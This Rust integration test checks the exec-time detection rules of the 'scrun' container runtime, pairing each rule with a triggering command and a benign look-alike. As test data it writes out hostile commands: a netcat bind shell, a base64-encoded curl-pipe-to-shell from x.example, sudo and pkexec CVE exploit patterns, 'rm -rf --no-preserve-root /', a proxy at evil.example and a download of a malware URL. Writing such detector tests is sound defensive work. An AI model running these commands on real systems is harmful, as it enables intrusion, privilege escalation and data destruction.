//! The exec rules end to end: a private dockerd whose scrun reads a config with a URL feed and an
//! allowed proxy; one audit-mode container runs, for every rule of the default ruleset, an exec
//! that must raise it and a benign look-alike that must not (stand-in tools are `#!/bin/sh`
//! scripts under the tools' names: a rule fires on the exec, whatever the tool then does); one
//! enforce-mode container checks what is blocked (the three privilege-escalation patterns and
//! Reverse Shell), that report rules are not, and the per-container `scrun.rule.<ID>` labels.
//!
//! Every check reads only the findings its container wrote after the exec it made.
//!
//! busybox's shell runs some applets without an exec (NOFORK/NOEXEC applets such as `find` and
//! `rm`, with its preferred-applets setting), which no exec-time detector can see; the table runs
//! those by path, which the shell does exec.

use std::fs;
use std::path::PathBuf;
use std::sync::OnceLock;

use scrun_integration::docker::Docker;
use scrun_integration::image::FileEntry;
use scrun_integration::process::{stderr, stdout};
use scrun_integration::{Error, Runtime};
use serde_json::Value;

const IMAGE: &str = "scrun-test/rules:1";
const BAD_URL: &str = "http://198.51.100.7/bins/mirai.x86";

struct Env {
    docker: Docker,
    findings: PathBuf,
}

/// Stand-ins: plain tools exit 0; `nginx spawn`, `socat`, `foomatic-rip` and `cupsd` start a
/// shell, as the real ones do when exploited.
const TOOLS: &[&str] = &[
    "peirates",
    "linpeas.sh",
    "steghide",
    "gcc",
    "rsync",
    "sudo",
    "sudoedit",
    "pkexec",
    "openssl",
    "gpg",
    "curl",
    "kubectl",
    "python3",
    "rm",
];
const SPAWNERS: &[&str] = &["socat", "foomatic-rip", "cupsd"];

fn env() -> &'static Env {
    static SHARED: OnceLock<Result<Env, String>> = OnceLock::new();
    scrun_integration::shared_env(
        &SHARED,
        "start the private dockerd with a scrun config",
        setup,
    )
}

fn setup() -> Result<Env, Error> {
    let scrun = Runtime::scrun();
    scrun.require()?;
    let mut findings = PathBuf::new();
    let hook = scrun_integration::runtime::workspace_dir().join("hooks/docker/daemon.json");
    let mut docker = Docker::start_with_env(&scrun.path, Some(&hook), |wd| {
        let urls = wd.join("urlhaus.csv");
        let config = wd.join("scrun.toml");
        findings = wd.join("findings.jsonl");
        scrun_integration::write_file(
            &urls,
            format!(
                "# URLhaus Database Dump (CSV)\n# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n\
                 \"1\",\"2024-11-20 10:01:02\",\"{BAD_URL}\",\"online\",\"2024-11-20 10:01:02\",\"malware_download\",\"elf\",\"https://urlhaus.abuse.ch/url/1/\",\"test\"\n"
            ),
        )?;
        scrun_integration::write_file(
            &config,
            format!(
                "mode = \"audit\"\n[intel]\nurl_feeds = [{urls:?}]\n[findings]\npath = {findings:?}\n\
                 [supervisor]\nhash_cache_dir = {cache:?}\n[rules]\nallowed_proxies = [\"http://proxy.corp:3128\"]\n",
                urls = urls.display().to_string(),
                findings = findings.display().to_string(),
                cache = wd.join("hashcache").display().to_string(),
            ),
        )?;
        Ok(vec![(
            "SCRUN_CONFIG".to_string(),
            config.display().to_string(),
        )])
    })?;
    docker.guard_with_reaper()?;
    let script = |body: &str| format!("#!/bin/sh\n{body}\nexit 0\n").into_bytes();
    let mut layer: Vec<FileEntry> = TOOLS
        .iter()
        .map(|t| FileEntry {
            path: format!("/usr/local/bin/{t}"),
            bytes: script(""),
            mode: 0o755,
        })
        .collect();
    for t in SPAWNERS {
        layer.push(FileEntry {
            path: format!("/usr/local/bin/{t}"),
            bytes: script("sh -c true"),
            mode: 0o755,
        });
    }
    layer.push(FileEntry {
        path: "/usr/local/bin/nginx".into(),
        bytes: script("if [ \"$1\" = spawn ]; then sh -c true; fi"),
        mode: 0o755,
    });
    docker.load_shell_image(IMAGE, &[layer])?;
    Ok(Env { docker, findings })
}

/// A detached container of this file, force-removed on drop.
struct Ctr {
    id: String,
}

impl Drop for Ctr {
    fn drop(&mut self) {
        let _ = env().docker.docker(&["rm", "-f", &self.id]);
    }
}

impl Ctr {
    fn start(flags: &[&str]) -> Ctr {
        let mut v = vec!["run", "-d", "--runtime", "scrun"];
        v.extend_from_slice(flags);
        v.extend_from_slice(&[IMAGE, "sleep", "600"]);
        let out = env().docker.docker(&v).expect("docker run -d");
        assert!(out.status.success(), "docker run -d: {}", stderr(&out));
        Ctr {
            id: stdout(&out).trim().to_string(),
        }
    }

    fn findings(&self) -> Vec<Value> {
        fs::read_to_string(&env().findings)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|f| {
                f.pointer("/sourceProperties/scrun_container_id")
                    .and_then(Value::as_str)
                    == Some(self.id.as_str())
            })
            .collect()
    }

    /// Runs `sh -c script` in the container; returns its exit code and the rule findings it
    /// raised (all findings written are read after `docker exec` returned: a finding is written
    /// before the exec it is about is answered).
    fn exec(&self, script: &str) -> (i32, Vec<Value>) {
        let before = self.findings().len();
        let out = env()
            .docker
            .docker(&["exec", &self.id, "sh", "-c", script])
            .expect("docker exec");
        let new = self.findings().split_off(before);
        let rules = new
            .into_iter()
            .filter(|f| f.pointer("/sourceProperties/scrun_rule_id").is_some())
            .collect();
        (out.status.code().unwrap_or(-1), rules)
    }
}

fn ids(fs: &[Value]) -> Vec<String> {
    let mut v: Vec<String> = fs
        .iter()
        .map(|f| {
            f["sourceProperties"]["scrun_rule_id"]
                .as_str()
                .unwrap_or("")
                .to_string()
        })
        .collect();
    v.sort();
    v.dedup();
    v
}

fn find<'a>(fs: &'a [Value], id: &str) -> &'a Value {
    fs.iter()
        .find(|f| f["sourceProperties"]["scrun_rule_id"] == id)
        .unwrap_or_else(|| panic!("no {id} finding in {fs:#?}"))
}

/// Retry connecting until the listener is up (no sleeps): the listener runs `nc -l -e /bin/sh`.
/// scrun (libcontainer) leaves the loopback interface of a new network namespace down where runc
/// brings it up, so the containers that run this get NET_ADMIN ([`NET`]) and bring it up first.
const BIND_SHELL: &str = "ip link set lo up; nc -l -p 5555 -e /bin/sh & \
     for i in $(seq 500); do echo exit | nc 127.0.0.1 5555 2>/dev/null && break; done; wait";

/// `docker run` flags of the containers that run [`BIND_SHELL`].
const NET: [&str; 2] = ["--cap-add", "NET_ADMIN"];

/// (rule, positive script, the other rules the positive may raise too, benign script).
fn table() -> Vec<(&'static str, String, &'static [&'static str], String)> {
    let t = |id, pos: &str, also: &'static [&'static str], neg: &str| {
        (id, pos.to_string(), also, neg.to_string())
    };
    vec![
        t(
            "SCRUN-REVERSE-SHELL",
            BIND_SHELL,
            &["SCRUN-NETCAT-RCE"],
            "echo true | sh",
        ),
        t(
            "SCRUN-UNEXPECTED-CHILD-SHELL",
            "nginx spawn",
            &[],
            "sh -c 'sh -c true; true'",
        ),
        t("SCRUN-SOCAT-REVERSE-SHELL", "socat", &[], "cupsd"),
        t(
            "SCRUN-NETCAT-RCE",
            "nc -e /bin/true 127.0.0.1 1 2>/dev/null; true",
            &[],
            "nc 127.0.0.1 1 </dev/null 2>/dev/null; true",
        ),
        t(
            "SCRUN-BASE64-ELF",
            "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d >/dev/null",
            &[],
            "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK | base64 -d >/dev/null",
        ),
        t(
            "SCRUN-BASE64-PYTHON",
            "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9z'))\"",
            &[],
            "python3 -c \"print('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK')\"",
        ),
        t(
            "SCRUN-BASE64-SHELL",
            "echo IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovL3guZXhhbXBsZS9hIHwgc2gK | base64 -d >/dev/null",
            &[],
            "echo dGhpcyBpcyBqdXN0IHRleHQgZm9yIGEgdGVzdA== | base64 -d >/dev/null",
        ),
        t(
            "SCRUN-COMPILER",
            "gcc -o /tmp/x x.c",
            &[],
            "ls / >/dev/null",
        ),
        t(
            "SCRUN-FIND-GCP-CREDENTIALS",
            "/bin/find / -maxdepth 1 -name application_default_credentials.json",
            &[],
            "/bin/find / -maxdepth 1 -name '*.py'",
        ),
        t(
            "SCRUN-GPG-KEY-RECON",
            "/bin/find /root -name secring.gpg",
            &[],
            "/bin/find /root -name '*.txt'",
        ),
        t(
            "SCRUN-SEARCH-PRIVATE-KEYS",
            "grep -r 'BEGIN RSA PRIVATE KEY' /etc; true",
            &[],
            "grep -r TODO /etc; true",
        ),
        t(
            "SCRUN-SUDO-CVE-2019-14287",
            "sudo -u#-1 id",
            &[],
            "sudo -u root id",
        ),
        t(
            "SCRUN-SUDO-CVE-2021-3156",
            "sudoedit -s 'AAAA\\'",
            &[],
            "sudoedit /etc/hosts",
        ),
        t(
            "SCRUN-POLKIT-CVE-2021-4034",
            "env 'PATH=GCONV_PATH=.' /usr/local/bin/pkexec",
            &[],
            "pkexec id",
        ),
        t(
            "SCRUN-DISALLOWED-PROXY-ENV",
            "env HTTPS_PROXY=http://evil.example:8080 curl http://example.com",
            &[],
            "env https_proxy=http://proxy.corp:3128 curl http://example.com",
        ),
        t(
            "SCRUN-REMOTE-FILE-COPY",
            "rsync -a /etc/passwd x:/tmp/",
            &[],
            "cp /etc/passwd /tmp/p",
        ),
        t(
            "SCRUN-REMOVE-BULK-DATA",
            "shred -u /tmp/nothing 2>/dev/null; true",
            &[],
            "/usr/local/bin/rm /tmp/nothing",
        ),
        t(
            "SCRUN-MALICIOUS-CMDLINES",
            "/usr/local/bin/rm -rf --no-preserve-root /",
            &[],
            "/usr/local/bin/rm -rf /tmp/build",
        ),
        t(
            "SCRUN-OPENSSL-SHARED-OBJECT",
            "openssl engine dynamic -pre SO_PATH:/tmp/evil.so",
            &[],
            "openssl version",
        ),
        t("SCRUN-CUPS-RCE", "foomatic-rip", &[], "cupsd"),
        t(
            "SCRUN-INGRESS-NIGHTMARE",
            "nginx -t -c /proc/1/fd/0",
            &[],
            "nginx -t -c /etc/nginx.conf",
        ),
        t("SCRUN-K8S-ATTACK-TOOL", "peirates", &[], "kubectl get pods"),
        t("SCRUN-LOCAL-RECON-TOOL", "linpeas.sh", &[], "ps >/dev/null"),
        t(
            "SCRUN-STEGANOGRAPHY-TOOL",
            "steghide extract -sf a.jpg",
            &[],
            "ls /tmp >/dev/null",
        ),
        t(
            "SCRUN-CONTAINER-ESCAPE",
            "nsenter -t 1 -m true 2>/dev/null; true",
            &[],
            "nsenter --help 2>/dev/null; true",
        ),
        t(
            "SCRUN-MALICIOUS-URL",
            &format!("curl -s {BAD_URL}"),
            &[],
            "curl -s http://198.51.100.7/fine",
        ),
    ]
}

#[test]
fn every_default_rule_fires_on_its_exec_and_not_on_a_benign_one() {
    let c = Ctr::start(&NET);
    let mut failures = Vec::new();
    let mut raised = Vec::new();
    for (id, pos, also, neg) in table() {
        let (_, got) = c.exec(&pos);
        raised.extend(got.iter().map(|f| f.to_string()));
        let mut want: Vec<String> = std::iter::once(id)
            .chain(also.iter().copied())
            .map(String::from)
            .collect();
        want.sort();
        if ids(&got) != want {
            failures.push(format!(
                "{id}: positive {pos:?} raised {:?}, want {want:?}",
                ids(&got)
            ));
            continue;
        }
        let f = find(&got, id);
        let cat = f["category"].as_str().unwrap_or("");
        let entry = scrun_findings::catalogue::lookup(cat)
            .unwrap_or_else(|| panic!("{id}: category {cat:?} is not in the catalogue"));
        assert_eq!(f["severity"], entry.severity.as_str(), "{id}: {f}");
        assert_eq!(
            f["sourceProperties"]["scrun_detector"],
            entry.cloud_run_api_name().as_str(),
            "{id}: {f}"
        );
        assert_eq!(
            f["sourceProperties"]["scrun_action"], "ALLOWED",
            "{id}: {f}"
        );
        assert_eq!(f["findingClass"], "THREAT", "{id}: {f}");
        assert!(f["mitreAttack"]["primaryTactic"].is_string(), "{id}: {f}");
        let (_, got) = c.exec(&neg);
        if !got.is_empty() {
            failures.push(format!("{id}: benign {neg:?} raised {:?}", ids(&got)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    scc_accepts(&raised);
}

/// Google's own SCC v2 client (`integration/tests/data/scc_check.py`, in the venv that
/// scripts/install-deps.sh makes) parses every finding, unknown fields rejected.
fn scc_accepts(findings: &[String]) {
    assert!(!findings.is_empty());
    let python = std::env::var_os("SCRUN_TEST_VENV")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/opt/scrun-test-venv"))
        .join("bin/python");
    let checker =
        scrun_integration::runtime::workspace_dir().join("integration/tests/data/scc_check.py");
    let out = scrun_integration::run_with_input(
        std::process::Command::new(python).arg(&checker),
        Some(findings.join("\n").as_bytes()),
        120,
    )
    .expect("run Google's SCC client (scripts/install-deps.sh makes the venv)");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "Google's SCC v2 client rejected rule findings:\n{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        text.lines().filter(|l| l.starts_with("ok ")).count(),
        findings.len(),
        "{text}"
    );
}

#[test]
fn findings_carry_cloud_run_fields() {
    let c = Ctr::start(&NET);
    let (_, got) = c.exec(BIND_SHELL);
    let f = find(&got, "SCRUN-REVERSE-SHELL");
    let p = &f["sourceProperties"];
    assert_eq!(
        p["Reverse_Shell_Stdin_Redirection_Src_Ip"], "127.0.0.1",
        "{f}"
    );
    assert_eq!(p["Reverse_Shell_Stdin_Redirection_Src_Port"], "5555", "{f}");
    assert_eq!(
        p["Reverse_Shell_Stdin_Redirection_Dst_Ip"], "127.0.0.1",
        "{f}"
    );
    assert!(
        p["Reverse_Shell_Stdin_Redirection_Dst_Port"].is_string(),
        "{f}"
    );
    assert_eq!(f["indicator"]["ipAddresses"][0], "127.0.0.1", "{f}");
    assert_eq!(f["processes"][0]["binary"]["path"], "/bin/busybox", "{f}");

    let (_, got) = c.exec("nginx spawn");
    let f = find(&got, "SCRUN-UNEXPECTED-CHILD-SHELL");
    assert_eq!(f["processes"][1]["name"], "nginx", "both processes: {f}");
    assert_eq!(
        f["processes"][0]["parentPid"], f["processes"][1]["pid"],
        "{f}"
    );

    // Raised for the shell whose command line holds the URL and for curl itself.
    let (_, got) = c.exec(&format!("curl -s {BAD_URL}"));
    let f = got
        .iter()
        .find(|f| f["processes"][0]["args"][0] == "curl")
        .unwrap_or_else(|| panic!("no finding for curl's exec: {got:#?}"));
    assert_eq!(
        f["sourceProperties"]["scrun_rule_id"],
        "SCRUN-MALICIOUS-URL"
    );
    assert_eq!(
        f["indicator"]["uris"].as_array().unwrap().last().unwrap(),
        BAD_URL,
        "{f}"
    );
    assert_eq!(f["indicator"]["domains"][0], "198.51.100.7", "{f}");
    assert_eq!(f["processes"][0]["args"][2], BAD_URL, "{f}");
}

#[test]
fn enforce_blocks_privilege_escalation_and_reverse_shells_and_reports_the_rest() {
    let c = Ctr::start(&[
        NET[0],
        NET[1],
        "--label",
        "scrun.mode=enforce",
        "--label",
        "scrun.rule.SCRUN-COMPILER=block",
        "--label",
        "scrun.rule.SCRUN-K8S-ATTACK-TOOL=off",
    ]);
    for (id, script) in [
        ("SCRUN-SUDO-CVE-2019-14287", "sudo -u#-1 id"),
        ("SCRUN-SUDO-CVE-2021-3156", "sudoedit -s 'AAAA\\'"),
        (
            "SCRUN-POLKIT-CVE-2021-4034",
            "env 'PATH=GCONV_PATH=.' /usr/local/bin/pkexec",
        ),
        ("SCRUN-COMPILER", "gcc -o /tmp/x x.c"),
    ] {
        let (code, got) = c.exec(script);
        assert_ne!(code, 0, "{id}: {script:?} was not blocked");
        let f = find(&got, id);
        assert_eq!(
            f["sourceProperties"]["scrun_action"], "BLOCKED",
            "{id}: {f}"
        );
    }
    // The bind shell's shell is refused; netcat itself is only reported.
    let (_, got) = c.exec(BIND_SHELL);
    let f = find(&got, "SCRUN-REVERSE-SHELL");
    assert_eq!(f["sourceProperties"]["scrun_action"], "BLOCKED", "{f}");
    let f = find(&got, "SCRUN-NETCAT-RCE");
    assert_eq!(f["sourceProperties"]["scrun_action"], "ALLOWED", "{f}");
    // Report rules run.
    let (code, got) = c.exec("rsync -a /etc/passwd x:/tmp/");
    assert_eq!(code, 0);
    assert_eq!(
        find(&got, "SCRUN-REMOTE-FILE-COPY")["sourceProperties"]["scrun_action"],
        "ALLOWED"
    );
    // Turned off for this container.
    let (code, got) = c.exec("peirates");
    assert_eq!((code, ids(&got)), (0, vec![]));
}

#[test]
fn a_malformed_rule_label_fails_create() {
    let out = env()
        .docker
        .docker(&[
            "run",
            "--rm",
            "--runtime",
            "scrun",
            "--label",
            "scrun.rule.SCRUN-COMPILER=maybe",
            IMAGE,
            "true",
        ])
        .expect("docker run");
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("scrun.rule.SCRUN-COMPILER") && err.contains("report, block or off"),
        "{err}"
    );
}
